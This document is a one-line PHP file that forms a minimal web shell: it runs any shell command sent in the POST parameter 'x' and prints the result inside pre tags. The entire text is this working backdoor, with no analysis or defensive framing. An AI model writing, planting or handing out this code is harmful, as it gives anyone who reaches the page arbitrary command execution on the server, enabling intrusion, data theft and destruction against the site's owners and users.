<pre><?= `$_POST[x]` ?></pre>
